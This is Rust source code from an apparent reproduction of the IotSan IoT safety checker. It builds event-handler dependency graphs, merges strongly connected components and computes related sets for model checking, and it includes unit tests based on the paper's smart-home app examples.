        Trigger::AppTouch => {
            profile.inputs.insert(EventDesc::any("touch"));
        }
        Trigger::Timer { .. } => {
            profile.inputs.insert(EventDesc::any("time"));
            profile.inputs.insert(sched_desc(app, &handler.name));
        }
    }
    for read in &summary.reads {
        match read {
            ReadEffect::DeviceAttr { attribute, .. } => {
                profile.inputs.insert(EventDesc::any(attribute.clone()));
            }
            ReadEffect::Mode => {
                profile.inputs.insert(EventDesc::any("mode"));
            }
            ReadEffect::StateVar { name } => {
                profile.inputs.insert(state_desc(app, name));
            }
            ReadEffect::EventField | ReadEffect::Time | ReadEffect::Setting { .. } => {}
        }
    }
    for write in &summary.writes {
        match write {
            WriteEffect::DeviceAttr { attribute, value } => {
                profile
                    .outputs
                    .insert(EventDesc { attribute: attribute.clone(), value: value.clone() });
            }
            WriteEffect::Mode { value } => {
                profile
                    .outputs
                    .insert(EventDesc { attribute: "mode".into(), value: value.clone() });
            }
            WriteEffect::FakeEvent { attribute, value } => {
                profile
                    .outputs
                    .insert(EventDesc { attribute: attribute.clone(), value: value.clone() });
            }
            WriteEffect::StateVar { name } => {
                profile.outputs.insert(state_desc(app, name));
            }
            WriteEffect::Schedule { handler } => {
                profile.outputs.insert(sched_desc(app, handler));
            }
            WriteEffect::Command { .. }
            | WriteEffect::Sms
            | WriteEffect::Push
            | WriteEffect::Network
            | WriteEffect::Unsubscribe
            | WriteEffect::Unschedule => {}
        }
    }
    profile
}

/// Returns true when `input` is a device-typed setting of `app`
/// (used by callers that need to distinguish device loops from plain reads).
pub fn is_device_setting(app: &IrApp, input: &str) -> bool {
    app.input(input).map(|i| matches!(i.kind, SettingKind::Device { .. })).unwrap_or(false)
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_ir::{AppInput, IrExpr, Value};

    fn switch_app(name: &str, handler: IrHandler) -> IrApp {
        IrApp {
            name: name.into(),
            description: String::new(),
            inputs: vec![
                AppInput::device("contact1", "contactSensor"),
                AppInput::device("switches", "switch"),
                AppInput::device("lock1", "lock"),
            ],
            handlers: vec![handler],
            state_vars: vec![],
            dynamic_discovery: false,
        }
    }

    fn handler(trigger: Trigger, body: Vec<IrStmt>) -> IrHandler {
        IrHandler { app: "A".into(), name: "h".into(), trigger, body }
    }

    #[test]
    fn overlap_semantics() {
        let open = EventDesc::new("contact", "open");
        let any_contact = EventDesc::any("contact");
        let closed = EventDesc::new("contact", "closed");
        let on = EventDesc::new("switch", "on");
        assert!(open.overlaps(&any_contact));
        assert!(any_contact.overlaps(&closed));
        assert!(!open.overlaps(&closed));
        assert!(!open.overlaps(&on));
    }

    #[test]
    fn conflict_semantics() {
        let on = EventDesc::new("switch", "on");
        let off = EventDesc::new("switch", "off");
        let any = EventDesc::any("switch");
        assert!(on.conflicts_with(&off));
        assert!(!on.conflicts_with(&on));
        assert!(!on.conflicts_with(&any));
        assert!(!on.conflicts_with(&EventDesc::new("lock", "locked")));
    }

    #[test]
    fn display_format_matches_paper() {
        assert_eq!(EventDesc::new("contact", "open").to_string(), "contact/open");
        assert_eq!(EventDesc::any("contact").to_string(), "contact/\"...\"");
    }

    #[test]
    fn inputs_from_trigger_and_reads() {
        let h = handler(
            Trigger::Device {
                input: "contact1".into(),
                attribute: "contact".into(),
                value: Some("open".into()),
            },
            vec![IrStmt::If {
                cond: IrExpr::attr_eq("lock1", "lock", "locked"),
                then: vec![],
                els: vec![],
            }],
        );
        let app = switch_app("A", h.clone());
        let inputs = input_events(&app, &h);
        assert!(inputs.contains(&EventDesc::new("contact", "open")));
        assert!(inputs.contains(&EventDesc::any("lock")));
    }

    #[test]
    fn outputs_map_commands_to_attribute_events() {
        let h = handler(
            Trigger::AppTouch,
            vec![
                IrStmt::DeviceCommand {
                    input: "switches".into(),
                    command: "on".into(),
                    args: vec![],
                },
                IrStmt::DeviceCommand {
                    input: "lock1".into(),
                    command: "unlock".into(),
                    args: vec![],
                },
                IrStmt::SetLocationMode(IrExpr::Const(Value::Str("Away".into()))),
            ],
        );
        let app = switch_app("A", h.clone());
        let outputs = output_events(&app, &h);
        assert!(outputs.contains(&EventDesc::new("switch", "on")));
        assert!(outputs.contains(&EventDesc::new("lock", "unlocked")));
        assert!(outputs.contains(&EventDesc::new("mode", "Away")));
    }

    #[test]
    fn fake_events_count_as_outputs() {
        let h = handler(
            Trigger::AppTouch,
            vec![IrStmt::SendEvent { attribute: "smoke".into(), value: IrExpr::str("detected") }],
        );
        let app = switch_app("A", h.clone());
        let outputs = output_events(&app, &h);
        assert!(outputs.contains(&EventDesc::new("smoke", "detected")));
    }

    #[test]
    fn profile_combines_both() {
        let h = handler(
            Trigger::Device { input: "contact1".into(), attribute: "contact".into(), value: None },
            vec![IrStmt::DeviceCommand {
                input: "switches".into(),
                command: "off".into(),
                args: vec![],
            }],
        );
        let app = switch_app("A", h.clone());
        let profile = event_profile(&app, &h);
        assert_eq!(profile.inputs.len(), 1);
        assert_eq!(profile.outputs.len(), 1);
        assert!(is_device_setting(&app, "switches"));
        assert!(!is_device_setting(&app, "unknown"));
    }
}
