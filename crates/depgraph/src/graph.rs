//! Dependency-graph construction and related-set computation (§5).
//!
//! Vertices are event handlers; an edge `u → v` exists when an output event of
//! `u` overlaps an input event of `v`.  Strongly connected components are
//! merged into composite vertices.  The *related sets* — the groups of
//! handlers that must be verified together — are the ancestor closures of the
//! leaf vertices, merged across vertices with conflicting output events, with
//! redundant subsets removed (Tables 2 and 3, Figure 4 of the paper).

use crate::events::{effect_profile, EventProfile};
use iotsan_ir::IrApp;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

/// Identifier of a vertex in the dependency graph.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct VertexId(pub usize);

impl fmt::Display for VertexId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "v{}", self.0)
    }
}

/// One handler (or a composite of handlers from a strongly connected
/// component) in the dependency graph.
#[derive(Debug, Clone, PartialEq)]
pub struct Vertex {
    /// Vertex identifier.
    pub id: VertexId,
    /// The `(app, handler)` pairs represented by this vertex (more than one
    /// for composite vertices).
    pub members: Vec<(String, String)>,
    /// Union of the members' event profiles.
    pub profile: EventProfile,
}

impl Vertex {
    /// A short label such as `Unlock Door::changedLocationMode`.
    pub fn label(&self) -> String {
        self.members
            .iter()
            .map(|(app, handler)| format!("{app}::{handler}"))
            .collect::<Vec<_>>()
            .join(" + ")
    }

    /// Number of event handlers represented by the vertex.
    pub fn handler_count(&self) -> usize {
        self.members.len()
    }
}

/// The dependency graph over a group of apps.
#[derive(Debug, Clone, Default)]
pub struct DependencyGraph {
    vertices: Vec<Vertex>,
    /// children\[u\] = vertices v with an edge u → v.
    children: Vec<BTreeSet<usize>>,
    /// parents\[v\] = vertices u with an edge u → v.
    parents: Vec<BTreeSet<usize>>,
}

impl DependencyGraph {
    /// Builds the dependency graph for `apps`, merging strongly connected
    /// components into composite vertices.
    pub fn build(apps: &[IrApp]) -> Self {
        // 1. One base vertex per handler.
        let mut base: Vec<Vertex> = Vec::new();
        for app in apps {
            for handler in &app.handlers {
                base.push(Vertex {
                    id: VertexId(base.len()),
                    members: vec![(app.name.clone(), handler.name.clone())],
                    profile: effect_profile(app, handler),
                });
            }
        }
        let n = base.len();

        // 2. Edges: u → v when an output of u overlaps an input of v.
        let mut children: Vec<BTreeSet<usize>> = vec![BTreeSet::new(); n];
        for u in 0..n {
            for v in 0..n {
                if u == v {
                    continue;
                }
                let connected = base[u]
                    .profile
                    .outputs
                    .iter()
                    .any(|out| base[v].profile.inputs.iter().any(|input| out.overlaps(input)));
                if connected {
                    children[u].insert(v);
                }
            }
        }

        // 3. Merge strongly connected components into composite vertices.
        let components = strongly_connected_components(n, &children);
        let mut component_of = vec![0usize; n];
        for (ci, comp) in components.iter().enumerate() {
            for &v in comp {
                component_of[v] = ci;
            }
        }
        let mut vertices: Vec<Vertex> = Vec::with_capacity(components.len());
        for (ci, comp) in components.iter().enumerate() {
            let mut members = Vec::new();
            let mut profile = EventProfile::default();
            for &v in comp {
                members.extend(base[v].members.clone());
                profile.inputs.extend(base[v].profile.inputs.iter().cloned());
                profile.outputs.extend(base[v].profile.outputs.iter().cloned());
            }
            vertices.push(Vertex { id: VertexId(ci), members, profile });
        }
        let mut merged_children: Vec<BTreeSet<usize>> = vec![BTreeSet::new(); components.len()];
        let mut merged_parents: Vec<BTreeSet<usize>> = vec![BTreeSet::new(); components.len()];
        for u in 0..n {
            for &v in &children[u] {
                let (cu, cv) = (component_of[u], component_of[v]);
                if cu != cv {
                    merged_children[cu].insert(cv);
                    merged_parents[cv].insert(cu);
                }
            }
        }

        DependencyGraph { vertices, children: merged_children, parents: merged_parents }
    }

    /// All vertices.
    pub fn vertices(&self) -> &[Vertex] {
        &self.vertices
    }

    /// Number of vertices.
    pub fn len(&self) -> usize {
        self.vertices.len()
    }

    /// True when the graph has no vertices.
    pub fn is_empty(&self) -> bool {
        self.vertices.is_empty()
    }

    /// Total number of event handlers across all vertices (the "Original
    /// Size" column of Table 7a).
    pub fn handler_count(&self) -> usize {
        self.vertices.iter().map(|v| v.handler_count()).sum()
    }

    /// Children (outgoing edges) of a vertex.
    pub fn children(&self, v: VertexId) -> impl Iterator<Item = VertexId> + '_ {
        self.children[v.0].iter().map(|i| VertexId(*i))
    }

    /// Parents (incoming edges) of a vertex.
    pub fn parents(&self, v: VertexId) -> impl Iterator<Item = VertexId> + '_ {
        self.parents[v.0].iter().map(|i| VertexId(*i))
    }

    /// Leaf vertices (no children).
    pub fn leaves(&self) -> Vec<VertexId> {
        (0..self.vertices.len()).filter(|v| self.children[*v].is_empty()).map(VertexId).collect()
    }

    /// All (transitive) ancestors of a vertex.
    pub fn ancestors(&self, v: VertexId) -> BTreeSet<VertexId> {
        let mut out = BTreeSet::new();
        let mut stack: Vec<usize> = self.parents[v.0].iter().copied().collect();
        while let Some(u) = stack.pop() {
            if out.insert(VertexId(u)) {
                stack.extend(self.parents[u].iter().copied());
            }
        }
        out
    }

    /// The related sets of the graph (Table 3c): ancestor closures of leaves,
    /// merged across conflicting outputs, with redundant subsets removed.
    pub fn related_sets(&self) -> RelatedSets {
        let mut sets: Vec<BTreeSet<VertexId>> = Vec::new();

        // Initial related sets: one per leaf (Table 3a).
        for leaf in self.leaves() {
            let mut set = self.ancestors(leaf);
            set.insert(leaf);
            sets.push(set);
        }

        // Conflicting-output sets (Table 3b): for every pair of vertices with
        // conflicting output events, the union of their ancestor closures.
        for u in 0..self.vertices.len() {
            for v in (u + 1)..self.vertices.len() {
                let conflict =
                    self.vertices[u].profile.outputs.iter().any(|a| {
                        self.vertices[v].profile.outputs.iter().any(|b| a.conflicts_with(b))
                    });
                if conflict {
                    let mut set = self.ancestors(VertexId(u));
                    set.insert(VertexId(u));
                    set.extend(self.ancestors(VertexId(v)));
                    set.insert(VertexId(v));
                    sets.push(set);
                }
            }
        }

        // Remove duplicates and subsets (a subset is automatically verified
        // when its superset is verified).
        sets.sort_by_key(|s| s.len());
        let mut finals: Vec<BTreeSet<VertexId>> = Vec::new();
        'outer: for (i, set) in sets.iter().enumerate() {
            for other in sets.iter().skip(i + 1) {
                if set.is_subset(other) {
                    continue 'outer;
                }
            }
            if !finals.contains(set) {
                finals.push(set.clone());
            }
        }
        finals.sort();
        RelatedSets { sets: finals }
    }
}

/// Iterative Tarjan strongly-connected-components computation.  Components are
/// returned in reverse topological order; singleton components are included.
fn strongly_connected_components(n: usize, children: &[BTreeSet<usize>]) -> Vec<Vec<usize>> {
    #[derive(Clone, Copy)]
    struct NodeData {
        index: Option<usize>,
        lowlink: usize,
        on_stack: bool,
    }
    let mut data = vec![NodeData { index: None, lowlink: 0, on_stack: false }; n];
    let mut index = 0usize;
    let mut stack: Vec<usize> = Vec::new();
    let mut components: Vec<Vec<usize>> = Vec::new();

    // Iterative Tarjan with an explicit work stack of (node, child iterator position).
    for start in 0..n {
        if data[start].index.is_some() {
            continue;
        }
        let mut work: Vec<(usize, Vec<usize>, usize)> =
            vec![(start, children[start].iter().copied().collect(), 0)];
        data[start].index = Some(index);
        data[start].lowlink = index;
        data[start].on_stack = true;
        stack.push(start);
        index += 1;

        while let Some((node, kids, mut pos)) = work.pop() {
            let mut recursed = false;
            while pos < kids.len() {
                let child = kids[pos];
                pos += 1;
                match data[child].index {
                    None => {
                        // Recurse into child.
                        work.push((node, kids.clone(), pos));
                        data[child].index = Some(index);
                        data[child].lowlink = index;
                        data[child].on_stack = true;
                        stack.push(child);
                        index += 1;
                        work.push((child, children[child].iter().copied().collect(), 0));
                        recursed = true;
                        break;
                    }
                    Some(child_index) => {
                        if data[child].on_stack {
                            data[node].lowlink = data[node].lowlink.min(child_index);
                        }
                    }
                }
            }
            if recursed {
                continue;
            }
            // Node finished: pop component if it is a root.
            if data[node].lowlink == data[node].index.unwrap() {
                let mut component = Vec::new();
                loop {
                    let w = stack.pop().expect("tarjan stack underflow");
                    data[w].on_stack = false;
                    component.push(w);
                    if w == node {
                        break;
                    }
                }
                component.sort_unstable();
                components.push(component);
            }
            // Propagate lowlink to the parent frame.
            if let Some((parent, _, _)) = work.last() {
                let parent = *parent;
                data[parent].lowlink = data[parent].lowlink.min(data[node].lowlink);
            }
        }
    }
    components
}

/// The related sets of a dependency graph.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct RelatedSets {
    /// Each set lists the vertices that must be verified jointly.
    pub sets: Vec<BTreeSet<VertexId>>,
}

impl RelatedSets {
    /// Number of related sets.
    pub fn len(&self) -> usize {
        self.sets.len()
    }

    /// True when there are no related sets (no handlers at all).
    pub fn is_empty(&self) -> bool {
        self.sets.is_empty()
    }

    /// The number of **event handlers** in the largest related set (the "New
    /// Size" column of Table 7a).
    ///
    /// Units are handlers, not vertices: a composite vertex (a merged
    /// strongly connected component) contributes every handler it holds, so
    /// a single two-handler cycle counts as 2.  Returns `0` when there are
    /// no related sets at all (an empty graph); a graph with one
    /// single-handler vertex returns `1`.
    pub fn largest_handler_count(&self, graph: &DependencyGraph) -> usize {
        self.sets
            .iter()
            .map(|set| set.iter().map(|v| graph.vertices()[v.0].handler_count()).sum::<usize>())
            .max()
            .unwrap_or(0)
    }

    /// The scale ratio reported in Table 7a: original handler count divided
    /// by the largest related set's handler count
    /// ([`DependencyGraph::handler_count`] over
    /// [`RelatedSets::largest_handler_count`]).
    ///
    /// The ratio is dimensionless (handlers over handlers) and `>= 1.0` for
    /// any non-empty graph, since the largest related set can never hold
    /// more handlers than the whole graph.  **Empty-graph convention:** when
    /// there are no related sets (`largest_handler_count == 0`, which for a
    /// well-formed graph only happens when the graph itself is empty) the
    /// ratio is defined as `1.0` — "no reduction" — rather than dividing by
    /// zero; a singleton graph likewise reports exactly `1.0`.
    pub fn scale_ratio(&self, graph: &DependencyGraph) -> f64 {
        let original = graph.handler_count();
        let reduced = self.largest_handler_count(graph);
        if reduced == 0 {
            return 1.0;
        }
        original as f64 / reduced as f64
    }

    /// The apps appearing in each related set, in set order.
    pub fn apps_per_set(&self, graph: &DependencyGraph) -> Vec<BTreeSet<String>> {
        self.sets
            .iter()
            .map(|set| {
                set.iter()
                    .flat_map(|v| graph.vertices()[v.0].members.iter().map(|(app, _)| app.clone()))
                    .collect()
            })
            .collect()
    }

    /// Groups the apps of every related set and deduplicates identical app
    /// groups; these are the verification units handed to the model checker.
    pub fn app_groups(&self, graph: &DependencyGraph) -> Vec<BTreeSet<String>> {
        let mut groups: Vec<BTreeSet<String>> = Vec::new();
        for apps in self.apps_per_set(graph) {
            if !groups.contains(&apps) {
                groups.push(apps);
            }
        }
        groups
    }
}

/// Convenience: build the graph and related sets for a group of apps and
/// return `(graph, related_sets)`.
pub fn analyze(apps: &[IrApp]) -> (DependencyGraph, RelatedSets) {
    let graph = DependencyGraph::build(apps);
    let sets = graph.related_sets();
    (graph, sets)
}

/// Renders a Figure-4-style summary of the graph and its related sets.
pub fn render_summary(graph: &DependencyGraph, sets: &RelatedSets) -> String {
    let mut out = String::new();
    out.push_str("Dependency graph vertices:\n");
    for v in graph.vertices() {
        let inputs: Vec<String> = v.profile.inputs.iter().map(|e| e.to_string()).collect();
        let outputs: Vec<String> = v.profile.outputs.iter().map(|e| e.to_string()).collect();
        out.push_str(&format!(
            "  {}  {}\n    in:  [{}]\n    out: [{}]\n",
            v.id,
            v.label(),
            inputs.join(", "),
            outputs.join(", ")
        ));
    }
    out.push_str("Edges:\n");
    for v in graph.vertices() {
        let children: Vec<String> = graph.children(v.id).map(|c| c.to_string()).collect();
        if !children.is_empty() {
            out.push_str(&format!("  {} -> {}\n", v.id, children.join(", ")));
        }
    }
    out.push_str("Final related sets:\n");
    for (i, set) in sets.sets.iter().enumerate() {
        let members: Vec<String> = set.iter().map(|v| v.to_string()).collect();
        out.push_str(&format!("  set {}: {{{}}}\n", i + 1, members.join(", ")));
    }
    out
}

/// A map from app name to the related sets (by index) it participates in.
pub fn app_membership(graph: &DependencyGraph, sets: &RelatedSets) -> BTreeMap<String, Vec<usize>> {
    let mut out: BTreeMap<String, Vec<usize>> = BTreeMap::new();
    for (i, apps) in sets.apps_per_set(graph).iter().enumerate() {
        for app in apps {
            out.entry(app.clone()).or_default().push(i);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::events::EventDesc;
    use iotsan_ir::{AppInput, IrApp, IrHandler, IrStmt, Trigger};

    /// Builds the exact example of Table 2 / Figure 4: five apps, six handlers.
    fn paper_example() -> Vec<IrApp> {
        let app = |name: &str, inputs: Vec<AppInput>, handlers: Vec<IrHandler>| IrApp {
            name: name.into(),
            description: String::new(),
            inputs,
            handlers,
            state_vars: vec![],
            dynamic_discovery: false,
        };
        let h = |app: &str, name: &str, trigger: Trigger, body: Vec<IrStmt>| IrHandler {
            app: app.into(),
            name: name.into(),
            trigger,
            body,
        };
        let cmd = |input: &str, command: &str| IrStmt::DeviceCommand {
            input: input.into(),
            command: command.into(),
            args: vec![],
        };

        vec![
            // Vertex 0: Brighten Dark Places — contact/open + illuminance → switch/on
            app(
                "Brighten Dark Places",
                vec![
                    AppInput::device("contact1", "contactSensor"),
                    AppInput::device("lightSensor", "illuminanceMeasurement"),
                    AppInput::device("switches", "switch"),
                ],
                vec![h(
                    "Brighten Dark Places",
                    "contactOpenHandler",
                    Trigger::Device {
                        input: "contact1".into(),
                        attribute: "contact".into(),
                        value: Some("open".into()),
                    },
                    vec![IrStmt::If {
                        cond: iotsan_ir::IrExpr::binary(
                            iotsan_ir::IrBinOp::Lt,
                            iotsan_ir::IrExpr::DeviceAttr {
                                input: "lightSensor".into(),
                                attribute: "illuminance".into(),
                            },
                            iotsan_ir::IrExpr::int(30),
                        ),
                        then: vec![cmd("switches", "on")],
                        els: vec![],
                    }],
                )],
            ),
            // Vertex 1: Let There Be Dark! — contact/any → switch/on, switch/off
            app(
                "Let There Be Dark!",
                vec![
                    AppInput::device("contact1", "contactSensor"),
                    AppInput::device("switches", "switch"),
                ],
                vec![h(
                    "Let There Be Dark!",
                    "contactHandler",
                    Trigger::Device {
                        input: "contact1".into(),
                        attribute: "contact".into(),
                        value: None,
                    },
                    vec![IrStmt::If {
                        cond: iotsan_ir::IrExpr::bool(true),
                        then: vec![cmd("switches", "on")],
                        els: vec![cmd("switches", "off")],
                    }],
                )],
            ),
            // Vertex 2: Auto Mode Change — presence/any → location/mode
            app(
                "Auto Mode Change",
                vec![AppInput::device("people", "presenceSensor")],
                vec![h(
                    "Auto Mode Change",
                    "presenceHandler",
                    Trigger::Device {
                        input: "people".into(),
                        attribute: "presence".into(),
                        value: None,
                    },
                    vec![IrStmt::SetLocationMode(iotsan_ir::IrExpr::str("Away"))],
                )],
            ),
            // Vertices 3 and 4: Unlock Door — app/touch and location/mode → lock/unlocked
            app(
                "Unlock Door",
                vec![AppInput::device("lock1", "lock")],
                vec![
                    h("Unlock Door", "appTouch", Trigger::AppTouch, vec![cmd("lock1", "unlock")]),
                    h(
                        "Unlock Door",
                        "changedLocationMode",
                        Trigger::LocationMode { value: None },
                        vec![cmd("lock1", "unlock")],
                    ),
                ],
            ),
            // Vertices 5 and 6: Big Turn On — app/touch and location/mode → switch/on
            app(
                "Big Turn On",
                vec![AppInput::device("switches", "switch")],
                vec![
                    h("Big Turn On", "appTouch", Trigger::AppTouch, vec![cmd("switches", "on")]),
                    h(
                        "Big Turn On",
                        "changedLocationMode",
                        Trigger::LocationMode { value: None },
                        vec![cmd("switches", "on")],
                    ),
                ],
            ),
        ]
    }

    #[test]
    fn graph_has_seven_vertices_for_paper_example() {
        let apps = paper_example();
        let graph = DependencyGraph::build(&apps);
        assert_eq!(graph.len(), 7);
        assert_eq!(graph.handler_count(), 7);
    }

    #[test]
    fn edges_match_figure_4a() {
        let apps = paper_example();
        let graph = DependencyGraph::build(&apps);
        // Find the Auto Mode Change vertex (vertex "2" in the paper).
        let amc =
            graph.vertices().iter().find(|v| v.members[0].0 == "Auto Mode Change").unwrap().id;
        let children: BTreeSet<String> =
            graph.children(amc).map(|c| graph.vertices()[c.0].label()).collect();
        // Its children are Unlock Door::changedLocationMode (4) and
        // Big Turn On::changedLocationMode (6).
        assert!(children.iter().any(|l| l.contains("Unlock Door::changedLocationMode")));
        assert!(children.iter().any(|l| l.contains("Big Turn On::changedLocationMode")));
        assert_eq!(children.len(), 2);
    }

    #[test]
    fn related_sets_match_table_3c() {
        let apps = paper_example();
        let (graph, sets) = analyze(&apps);
        // The paper's final related sets: {3}, {2,4}, {0,1}, {1,5}, {1,2,6}.
        assert_eq!(sets.len(), 5, "{}", render_summary(&graph, &sets));
        let sizes: Vec<usize> = {
            let mut s: Vec<usize> = sets.sets.iter().map(|s| s.len()).collect();
            s.sort_unstable();
            s
        };
        assert_eq!(sizes, vec![1, 2, 2, 2, 3]);

        // The singleton set is Unlock Door::appTouch (vertex 3 in the paper).
        let singleton = sets.sets.iter().find(|s| s.len() == 1).unwrap();
        let label = graph.vertices()[singleton.iter().next().unwrap().0].label();
        assert_eq!(label, "Unlock Door::appTouch");

        // The 3-element set contains Let There Be Dark, Auto Mode Change and
        // Big Turn On::changedLocationMode (vertices 1, 2, 6).
        let triple = sets.sets.iter().find(|s| s.len() == 3).unwrap();
        let labels: BTreeSet<String> =
            triple.iter().map(|v| graph.vertices()[v.0].label()).collect();
        assert!(labels.iter().any(|l| l.contains("Let There Be Dark")));
        assert!(labels.iter().any(|l| l.contains("Auto Mode Change")));
        assert!(labels.iter().any(|l| l.contains("Big Turn On::changedLocationMode")));
    }

    #[test]
    fn scale_ratio_reduces_problem_size() {
        let apps = paper_example();
        let (graph, sets) = analyze(&apps);
        // 7 handlers total, largest related set has 3 handlers → ratio ≈ 2.3.
        assert_eq!(graph.handler_count(), 7);
        assert_eq!(sets.largest_handler_count(&graph), 3);
        let ratio = sets.scale_ratio(&graph);
        assert!(ratio > 2.0 && ratio < 2.5, "ratio = {ratio}");
    }

    #[test]
    fn app_groups_are_deduplicated() {
        let apps = paper_example();
        let (graph, sets) = analyze(&apps);
        let groups = sets.app_groups(&graph);
        assert!(!groups.is_empty());
        // Every group should contain at least one app.
        assert!(groups.iter().all(|g| !g.is_empty()));
        let membership = app_membership(&graph, &sets);
        assert!(membership.contains_key("Unlock Door"));
    }

    #[test]
    fn scc_merges_cycles() {
        // Two handlers that trigger each other (A outputs switch/on which B
        // consumes; B outputs contact/open which A consumes) form one SCC.
        let a = IrApp {
            name: "A".into(),
            description: String::new(),
            inputs: vec![AppInput::device("c", "contactSensor"), AppInput::device("s", "switch")],
            handlers: vec![IrHandler {
                app: "A".into(),
                name: "onContact".into(),
                trigger: Trigger::Device {
                    input: "c".into(),
                    attribute: "contact".into(),
                    value: None,
                },
                body: vec![IrStmt::DeviceCommand {
                    input: "s".into(),
                    command: "on".into(),
                    args: vec![],
                }],
            }],
            state_vars: vec![],
            dynamic_discovery: false,
        };
        let b = IrApp {
            name: "B".into(),
            description: String::new(),
            inputs: vec![AppInput::device("s", "switch"), AppInput::device("d", "doorControl")],
            handlers: vec![IrHandler {
                app: "B".into(),
                name: "onSwitch".into(),
                trigger: Trigger::Device {
                    input: "s".into(),
                    attribute: "switch".into(),
                    value: Some("on".into()),
                },
                body: vec![IrStmt::SendEvent {
                    attribute: "contact".into(),
                    value: iotsan_ir::IrExpr::str("open"),
                }],
            }],
            state_vars: vec![],
            dynamic_discovery: false,
        };
        let graph = DependencyGraph::build(&[a, b]);
        // The two handlers form a cycle and must be merged into one composite
        // vertex holding both handlers.
        assert_eq!(graph.len(), 1);
        assert_eq!(graph.vertices()[0].handler_count(), 2);
    }

    #[test]
    fn empty_input_yields_empty_graph() {
        let (graph, sets) = analyze(&[]);
        assert!(graph.is_empty());
        assert!(sets.is_empty());
        assert_eq!(sets.scale_ratio(&graph), 1.0);
    }

    #[test]
    fn empty_graph_reports_zero_handlers_and_neutral_ratio() {
        // The documented empty-graph convention: no related sets, a largest
        // handler count of 0, and a scale ratio pinned to 1.0 ("no
        // reduction") instead of a 0/0 division.
        let (graph, sets) = analyze(&[]);
        assert_eq!(graph.handler_count(), 0);
        assert_eq!(sets.largest_handler_count(&graph), 0);
        assert_eq!(sets.scale_ratio(&graph), 1.0);
        // A detached RelatedSets against an empty graph behaves the same.
        let detached = RelatedSets::default();
        assert_eq!(detached.largest_handler_count(&graph), 0);
        assert_eq!(detached.scale_ratio(&graph), 1.0);
    }

    #[test]
    fn singleton_graph_reports_unit_handlers_and_unit_ratio() {
        // One app with one handler: one vertex, one related set, both counts
        // in handler units, ratio exactly 1.0 (no reduction possible).
        let app = IrApp {
            name: "Solo".into(),
            description: String::new(),
            inputs: vec![AppInput::device("m", "motionSensor"), AppInput::device("s", "switch")],
            handlers: vec![IrHandler {
                app: "Solo".into(),
                name: "onMotion".into(),
                trigger: Trigger::Device {
                    input: "m".into(),
                    attribute: "motion".into(),
                    value: Some("active".into()),
                },
                body: vec![IrStmt::DeviceCommand {
                    input: "s".into(),
                    command: "on".into(),
                    args: vec![],
                }],
            }],
            state_vars: vec![],
            dynamic_discovery: false,
        };
        let (graph, sets) = analyze(&[app]);
        assert_eq!(graph.len(), 1);
        assert_eq!(graph.handler_count(), 1);
        assert_eq!(sets.len(), 1);
        assert_eq!(sets.largest_handler_count(&graph), 1);
        assert_eq!(sets.scale_ratio(&graph), 1.0);
    }

    #[test]
    fn event_desc_ordering_is_stable_in_sets() {
        let a = EventDesc::new("switch", "on");
        let b = EventDesc::any("switch");
        let mut set = BTreeSet::new();
        set.insert(a.clone());
        set.insert(b.clone());
        assert_eq!(set.len(), 2);
    }

    #[test]
    fn render_summary_mentions_all_vertices() {
        let apps = paper_example();
        let (graph, sets) = analyze(&apps);
        let text = render_summary(&graph, &sets);
        for v in graph.vertices() {
            assert!(text.contains(&v.label()));
        }
        assert!(text.contains("Final related sets"));
    }
}
