//! # iotsan-depgraph
//!
//! The App Dependency Analyzer of IotSan-rs (the Rust reproduction of
//! *IotSan: Fortifying the Safety of IoT Systems*, CoNEXT 2018, §5).
//!
//! The model checker should not have to check interactions between event
//! handlers that do not interact.  This crate extracts each handler's input
//! and output events, builds the dependency graph, merges strongly connected
//! components, computes the *related sets* that must be verified jointly
//! (ancestor closures of leaf vertices, merged across conflicting outputs,
//! with redundant subsets removed) and reports the scale ratio that Table 7a
//! of the paper quantifies (mean ≈ 3.4× problem-size reduction).
//!
//! ```
//! use iotsan_depgraph::analyze;
//! # use iotsan_ir::{AppInput, IrApp, IrHandler, IrStmt, Trigger};
//! # let app = IrApp {
//! #     name: "Brighten My Path".into(),
//! #     description: String::new(),
//! #     inputs: vec![AppInput::device("motion", "motionSensor"), AppInput::device("lights", "switch")],
//! #     handlers: vec![IrHandler {
//! #         app: "Brighten My Path".into(),
//! #         name: "onMotion".into(),
//! #         trigger: Trigger::Device { input: "motion".into(), attribute: "motion".into(), value: Some("active".into()) },
//! #         body: vec![IrStmt::DeviceCommand { input: "lights".into(), command: "on".into(), args: vec![] }],
//! #     }],
//! #     state_vars: vec![],
//! #     dynamic_discovery: false,
//! # };
//! let (graph, sets) = analyze(&[app]);
//! assert_eq!(graph.len(), 1);
//! assert_eq!(sets.len(), 1);
//! ```

#![deny(missing_docs)]

pub mod events;
pub mod graph;

pub use events::{
    effect_profile, event_profile, input_events, output_events, EventDesc, EventProfile,
};
pub use graph::{
    analyze, app_membership, render_summary, DependencyGraph, RelatedSets, Vertex, VertexId,
};
