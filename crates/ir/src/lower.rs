//! Lowering of parsed SmartThings apps into the IotSan IR.
//!
//! This is the Rust counterpart of the paper's Translator (§6): where the
//! original pipeline produced Java ASTs for Bandera and then Promela, we lower
//! the Groovy AST directly into [`IrApp`]/[`IrHandler`] structures that the
//! model generator interprets and the Promela emitter prints.
//!
//! Groovy's built-in collection utilities (`each`, `find`, `findAll`, `any`,
//! `every`, `collect`, `+` on lists) are desugared here, and helper methods are
//! inlined (depth-bounded) so that every handler is a self-contained statement
//! list.

use crate::expr::{EventField, IrBinOp, IrExpr, Quantifier};
use crate::handler::{AppInput, IrApp, IrHandler, SettingKind, Trigger};
use crate::stmt::{HttpMethod, IrStmt};
use crate::types::Value;
use iotsan_groovy::ast::{Arg, AssignOp, BinOp, Block, Expr, GStringPart, Stmt, UnOp};
use iotsan_groovy::smartapp::{InputKind, SmartApp, SubscriptionSource};
use iotsan_groovy::MethodDecl;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

/// Maximum depth for inlining helper-method calls (prevents runaway recursion
/// for (indirectly) recursive helpers, which are rejected as opaque).
const MAX_INLINE_DEPTH: usize = 6;

/// An error produced during lowering.
#[derive(Debug, Clone, PartialEq)]
pub struct LowerError {
    /// What went wrong.
    pub message: String,
}

impl fmt::Display for LowerError {
